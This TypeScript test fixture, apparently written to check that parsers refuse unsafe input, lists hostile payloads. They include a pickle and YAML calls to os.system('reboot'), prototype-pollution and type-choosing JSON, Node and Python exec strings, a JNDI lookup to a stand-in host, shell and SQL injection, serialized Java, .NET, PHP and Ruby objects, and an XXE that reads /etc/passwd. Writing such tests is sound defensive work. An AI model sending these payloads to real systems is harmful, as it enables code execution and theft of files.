/**
 * Bytes that make careless readers run code, follow references, or change what all objects inherit.
 * What would run does no harm in the lab: nothing of it is ever run.
 */
import { fromHex, utf8 } from "../protocol/kit/bytes.ts";

const hexed = (digits: string): Uint8Array => fromHex(digits) ?? new Uint8Array(0);

/** Python's pickle: os.system, called at the end. Readers of any protocol take protocol 0. */
const pickle = utf8("cposix\nsystem\n(S'reboot'\ntR.");

/**
 * Members that set prototypes, that name a class to make, or that hold a function, each in the way
 * in which some reader of JSON takes them.
 */
const json = utf8(
  '{"__proto__":{"a":1},"constructor":{"prototype":{"a":1}},"$type":"System.Diagnostics.Process",' +
    '"py/reduce":["os.system"],"run":"_$$ND_FUNC$$_function(){reboot()}()"}',
);

/** What is looked for anywhere in a text: calls, tags, substitutions, conditions. */
const text = utf8(
  "__import__('os').system('reboot');require('child_process').exec('reboot') " +
    '!!python/object/apply:os.system ["a"] $' +
    "{jndi:ldap://mallory} {{7*7}} $(reboot) ;reboot ' OR '1'='1",
);

/** One of each family of readers; of at most 180 bytes, so that they fit into what RSA encrypts. */
export const dangerous: readonly Uint8Array[] = [pickle, json, text];

/** Those that have to stand at the beginning. */
export const dangerousStarts: readonly Uint8Array[] = [
  // Pickle, protocol 2, for readers that look for its header.
  hexed("800263706f7369780a73797374656d0a55067265626f6f7485522e"),
  utf8("__import__('os').system('reboot')"),
  utf8("require('child_process').execSync('reboot')"),
  utf8('eval("process.exit()")'),
  utf8('!!python/object/apply:os.system ["reboot"]'),
  utf8('!!js/function "function(){process.exit()}"'),
  utf8('{"__proto__":{"isAdmin":true}}'),
  utf8('{"constructor":{"prototype":{"isAdmin":true}}}'),
  // PHP, Java, .NET and Ruby: an object of a class that the sender chooses.
  utf8('O:8:"Injector":1:{s:3:"run";s:6:"reboot";}'),
  hexed("aced0005737200116a6176612e6c616e672e52756e74696d65"),
  hexed("0001000000ffffffff01000000000000000c02000000"),
  hexed("04086f3a0d496e6a6563746f72"),
  utf8('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>'),
  utf8("$(reboot)"),
  utf8("; reboot"),
  utf8("' OR '1'='1"),
];
